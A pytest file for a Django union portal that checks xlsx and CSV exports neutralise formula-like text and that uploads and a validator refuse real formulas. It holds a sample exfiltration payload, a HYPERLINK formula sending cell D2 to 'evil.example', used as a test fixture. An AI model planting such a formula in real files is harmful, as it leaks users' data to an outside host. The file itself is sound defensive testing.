"""M1 formula injection, the core: exports write formula-like text as text no spreadsheet evaluates (xlsx: a
string cell styled quotePrefix; CSV: a leading apostrophe), numbers stay numbers, the readers take such text
back unchanged and still refuse real formulas; one validator refuses text beginning with "=" at entry."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from union_portal.excel import ExcelFileError, csv_cell, csv_text, read_table, workbook_bytes
from union_portal.validators import no_formula

EVIL = '=HYPERLINK("http://evil.example/?"&D2,"x")'
FORMULA_LIKE = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_export_writes_formula_like_text_as_text_no_spreadsheet_evaluates_and_numbers_stay_numbers():
    data = workbook_bytes(["姓名", "数"], [[value, -5] for value in FORMULA_LIKE])

    assert "<f>" not in _sheet_xml(data)  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    # the text itself, unchanged (XML itself reads a carriage return as a line feed)
    assert [row[0].value for row in rows] == [v.replace("\r", "\n") for v in FORMULA_LIKE]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in rows)
    assert all(row[1].value == -5 and row[1].data_type == "n" for row in rows)


def test_money_is_a_number_that_keeps_its_sign_and_is_not_a_formula():
    # issue 15: money is a number cell with format #,##0.00 (it was exact text), never a formula
    data = workbook_bytes(["金额"], [[Decimal("-3.50")]])
    assert "<f>" not in _sheet_xml(data)
    cell = load_workbook(io.BytesIO(data)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type, cell.number_format) == (-3.5, "n", "#,##0.00")


def test_a_real_formula_in_an_uploaded_workbook_is_still_refused():
    workbook = Workbook()
    workbook.active.append(["会员编号"])
    workbook.active.append(["=1+1"])  # openpyxl writes this as a formula cell
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ExcelFileError, match="公式|formula"):
        read_table(buffer.getvalue(), required=["会员编号"])


def test_csv_cells_that_look_like_formulas_get_an_apostrophe_and_numbers_stay():
    assert [csv_cell(v) for v in FORMULA_LIKE] == ["'" + v for v in FORMULA_LIKE]
    assert [csv_cell(v) for v in (-5, Decimal("-3.50"), 1.5, "张三", None)] == ["-5", "-3.50", "1.5", "张三", ""]
    assert csv_text(["=h"], [[EVIL]]) == '\ufeff\'=h\r\n"\'=HYPERLINK(""http://evil.example/?""&D2,""x"")"\r\n'


def test_no_formula_refuses_text_beginning_with_equals_only():
    with pytest.raises(ValidationError):
        no_formula(EVIL)
    with pytest.raises(ValidationError):
        no_formula("  =1+1")
    for fine in ("张三", "-", "a=b", "", None):
        no_formula(fine)
